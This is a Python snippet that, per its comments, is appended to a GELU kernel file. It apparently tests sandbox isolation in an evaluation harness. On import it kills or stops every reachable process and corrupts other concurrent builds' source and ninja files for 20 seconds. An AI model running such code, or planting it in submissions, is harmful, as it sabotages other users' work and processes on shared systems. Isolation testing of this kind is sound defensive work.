# Appended to gelu_fused.py. Its import runs twice with kgym's rights withheld: while its
# extension is recorded (in a confined child of its executor's builder, under that builder's
# uid) and when it loads as the candidate. Each time, for 20 s, it goes for another executor's
# concurrent build: it signals every process it can (kill -1, and every pid it can list), and
# rewrites the sources and ninja file of every build directory it can find or guess (a builder
# works in /tmp/kgym-sandbox-PID-buildN/buildN-S/build). The other build must still come out
# right, and what it reached is said in the error it raises at the end (the candidate's pass).
import glob
import os
import signal
import time

_HARM_FOR_S = 20.0


def _build_dirs():
    roots = set(glob.glob("/tmp/kgym-sandbox-*") + glob.glob("/proc/[0-9]*/root/tmp/kgym-sandbox-*")
                + glob.glob("/proc/[0-9]*/cwd"))
    guessed = set()
    for root in roots:
        guessed.add(os.path.join(root, "build"))
        for n in range(1, 9):
            for s in range(1, 30):
                guessed.add(os.path.join(root, f"build{n}-{s}", "build"))
    return guessed


def _harm_once(reached):
    try:
        os.kill(-1, signal.SIGKILL)  # every process it may signal but itself
    except OSError:
        pass
    for entry in glob.glob("/proc/[0-9]*"):
        pid = int(os.path.basename(entry))
        if pid in (os.getpid(), 1):
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
            reached.add(f"signal {pid}")
        except OSError:
            pass
    for build in _build_dirs():
        for target in glob.glob(os.path.join(build, "*.cu")) + glob.glob(os.path.join(build, "*.cpp")) + \
                [os.path.join(build, "build.ninja")]:
            try:
                with open(target, "a") as f:
                    f.write("\n#error injected by another evaluation's candidate\n")
                reached.add(f"wrote {target}")
            except OSError:
                pass


def _harm():
    reached = set()
    until = time.monotonic() + _HARM_FOR_S
    while time.monotonic() < until:
        _harm_once(reached)
        time.sleep(0.1)
    raise RuntimeError(f"harmed: {sorted(reached)[:5]}")


_harm()
